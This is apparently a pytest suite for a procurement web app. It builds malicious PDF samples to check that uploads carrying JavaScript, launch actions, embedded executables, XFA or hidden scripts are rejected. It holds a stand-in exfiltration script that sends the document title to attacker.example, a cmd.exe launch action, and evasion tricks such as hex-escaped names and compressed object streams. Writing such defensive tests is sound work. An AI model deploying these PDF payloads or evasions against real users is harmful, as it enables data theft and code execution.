"""PDF attachments with JavaScript or other active content are refused on the field, and
nothing of them is kept; plain PDFs, web links and "open at page 1" still pass."""

import io
import zlib

import pytest
import sqlalchemy as sa
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from govtech.audit.models import AuditEntry
from govtech.files import StoredFile
from govtech.proposals.models import ProposalAttachment
from govtech.proposals.services import start_proposal
from tests import factories
from tests.conftest import login

SCRIPT = "app.launchURL('https://attacker.example/?' + this.info.Title);"


# --- documents built with pypdf ----------------------------------------------------------
def _name(value: str) -> NameObject:
    return NameObject(value)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _js_action() -> DictionaryObject:
    return DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject(SCRIPT)}
    )


def _with_page() -> tuple[PdfWriter, DictionaryObject]:
    writer = PdfWriter()
    return writer, writer.add_blank_page(width=595, height=842)


def clean_pdf() -> bytes:
    writer, _page = _with_page()
    writer.add_metadata({"/Title": "Propuesta técnica"})
    return _written(writer)


def names_tree_javascript() -> bytes:
    """Document-level JavaScript: the catalogue's /Names /JavaScript tree."""
    writer, _page = _with_page()
    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_js_action())])}
    )
    writer._root_object[_name("/Names")] = DictionaryObject(
        {_name("/JavaScript"): writer._add_object(tree)}
    )
    return _written(writer)


def open_action_javascript() -> bytes:
    writer, _page = _with_page()
    writer._root_object[_name("/OpenAction")] = writer._add_object(_js_action())
    return _written(writer)


def _link(writer, page, action: DictionaryObject) -> None:
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)]),
            _name("/A"): action,
        }
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def annotation_javascript() -> bytes:
    """A link on the page whose action is a script."""
    writer, page = _with_page()
    _link(writer, page, _js_action())
    return _written(writer)


def page_open_launch() -> bytes:
    """The page's additional actions start a program when the page is shown."""
    writer, page = _with_page()
    launch = DictionaryObject(
        {_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("cmd.exe")}
    )
    page[_name("/AA")] = DictionaryObject({_name("/O"): launch})
    return _written(writer)


def embedded_file() -> bytes:
    writer, _page = _with_page()
    writer.add_attachment("factura.exe", b"MZ\x90\x00")
    return _written(writer)


def javascript_link() -> bytes:
    writer, page = _with_page()
    _link(
        writer,
        page,
        DictionaryObject(
            {_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("javascript:alert(1)")}
        ),
    )
    return _written(writer)


def xfa_form() -> bytes:
    writer, _page = _with_page()
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )
    return _written(writer)


def web_link_and_open_at_first_page() -> bytes:
    writer, page = _with_page()
    _link(
        writer,
        page,
        DictionaryObject(
            {
                _name("/S"): _name("/URI"),
                _name("/URI"): TextStringObject("https://example.org/demo"),
            }
        ),
    )
    writer._root_object[_name("/OpenAction")] = ArrayObject(
        [page.indirect_reference, _name("/Fit")]
    )
    return _written(writer)


def encrypted_without_user_password_and_script() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(open_action_javascript())))
    writer.encrypt(user_password="", owner_password="propietario", algorithm="RC4-128")
    return _written(writer)


def password_protected() -> bytes:
    writer, _page = _with_page()
    writer.encrypt(user_password="secreto", owner_password="propietario", algorithm="RC4-128")
    return _written(writer)


# --- documents written by hand (what pypdf's writer cannot produce) -----------------------
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def hex_escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript: names may spell any byte as #xx."""
    objects = [_CATALOG, _PAGES, _PAGE, b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _object_stream_pdf(packed: bytes) -> bytes:
    """Objects 1-3 in the open, object 4 compressed inside object stream 5 (PDF 1.5), found
    through a cross-reference stream (object 6)."""
    header = b"4 0 "
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in ((1, _CATALOG), (2, _PAGES), (3, _PAGE)):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = len(out)
    rows = b"\x00" + bytes(4) + b"\xff\xff"
    for number in range(1, 7):
        if number == 4:
            rows += b"\x02" + (5).to_bytes(4, "big") + bytes(2)
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2)
    table = zlib.compress(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    )
    return bytes(out)


def javascript_in_object_stream() -> bytes:
    """The script is compressed inside an object stream: invisible to a byte search."""
    return _object_stream_pdf(zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"))


def unreadable_object_stream() -> bytes:
    """An object stream that cannot be decompressed: a laxer viewer might still find a script."""
    return _object_stream_pdf(b"\x00" * 8 + zlib.compress(b"4 0 << /S /JavaScript /JS (x) >>")[8:])


REFUSED = {
    "names_tree_javascript": (names_tree_javascript, "JavaScript"),
    "open_action_javascript": (open_action_javascript, "JavaScript"),
    "annotation_javascript": (annotation_javascript, "JavaScript"),
    "page_open_launch": (page_open_launch, "start other programs"),
    "embedded_file": (embedded_file, "embedded files"),
    "javascript_link": (javascript_link, "unsafe address"),
    "xfa_form": (xfa_form, "XFA"),
    "hex_escaped_names": (hex_escaped_names, "JavaScript"),
    "javascript_in_object_stream": (javascript_in_object_stream, "JavaScript"),
    "encrypted_without_user_password": (encrypted_without_user_password_and_script, "JavaScript"),
    "unreadable_object_stream": (unreadable_object_stream, "damaged"),
    "password_protected": (password_protected, "password"),
}


# --- through the attachment form --------------------------------------------------------
@pytest.fixture
def draft(app, db):
    challenge = factories.published_challenge()
    member = factories.supplier_member()
    proposal = start_proposal(challenge, member)
    db.session.commit()
    client = app.test_client()
    login(client, member.email, factories.PASSWORD)
    return client, proposal


def _upload(client, proposal, data: bytes):
    # Encoded in memory: Werkzeug's test client spools a body over 500 kB to a temporary
    # file it never closes (a ResourceWarning in whichever later test collects it).
    document = FileStorage(io.BytesIO(data), filename="anexo.pdf", content_type="application/pdf")
    boundary, body = encode_multipart({"title": "Anexo técnico", "document": document})
    return client.post(
        f"/proposals/{proposal.id}/attachments",
        data=body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )


def _kept(db) -> tuple[int, int, int]:
    db.session.expire_all()
    return (
        db.session.scalar(sa.select(sa.func.count(StoredFile.id))),
        db.session.scalar(sa.select(sa.func.count(ProposalAttachment.id))),
        db.session.scalar(
            sa.select(sa.func.count(AuditEntry.id)).where(
                AuditEntry.action == "proposal.attachment_added"
            )
        ),
    )


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_active_content_is_refused_on_the_field_and_nothing_is_kept(draft, db, case):
    client, proposal = draft
    build, reason = REFUSED[case]
    data = build()
    assert data.startswith(b"%PDF-")
    response = _upload(client, proposal, data)
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    error = page[page.index('id="document-error-1"') :].split("</span>", 1)[0]
    assert reason in error, error
    assert _kept(db) == (0, 0, 0)


@pytest.mark.parametrize(
    "build",
    [clean_pdf, web_link_and_open_at_first_page, factories.pdf_bytes],
    ids=lambda b: b.__name__,
)
def test_plain_pdfs_links_and_open_at_first_page_are_accepted(draft, db, build):
    client, proposal = draft
    data = build()
    response = _upload(client, proposal, data)
    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
    assert _kept(db) == (1, 1, 1)
    stored = db.session.scalar(sa.select(StoredFile))
    assert stored.data == data  # kept byte for byte, not rewritten


def test_agency_documents_are_checked_the_same_way(app, db):
    staff = factories.agency_staff()
    challenge = factories.draft_challenge(staff)
    db.session.commit()
    client = app.test_client()
    login(client, staff.email, factories.PASSWORD)
    response = client.post(
        f"/challenges/{challenge.id}/documents",
        data={"title": "Bases", "document": (io.BytesIO(names_tree_javascript()), "bases.pdf")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert "JavaScript" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(sa.select(sa.func.count(StoredFile.id))) == 0


def _many_object_pdf(pages: int, script: bool) -> bytes:
    """About 10 MB in some 3 x `pages` objects (pages, text, links): the costly shape."""
    writer = PdfWriter()
    for i in range(pages):
        page = writer.add_blank_page(width=595, height=842)
        text = DecodedStreamObject()
        text.set_data(b"BT /F1 11 Tf 72 720 Td (Linea %d de un informe largo) Tj ET\n" % i * 58)
        page[_name("/Contents")] = writer._add_object(text)
        action = DictionaryObject(
            {
                _name("/S"): _name("/URI"),
                _name("/URI"): TextStringObject(f"https://example.org/{i}"),
            }
        )
        _link(writer, page, _js_action() if script and i == pages - 1 else action)
    return _written(writer)


def test_a_large_pdf_is_checked_in_reasonable_time(draft, db):
    client, proposal = draft
    data = _many_object_pdf(2500, script=True)  # the script sits on the very last page
    assert 9 * 1024 * 1024 < len(data) <= 10 * 1024 * 1024
    response = _upload(client, proposal, data)
    assert response.status_code == 400
    assert "JavaScript" in response.get_data(as_text=True)
    assert _kept(db) == (0, 0, 0)
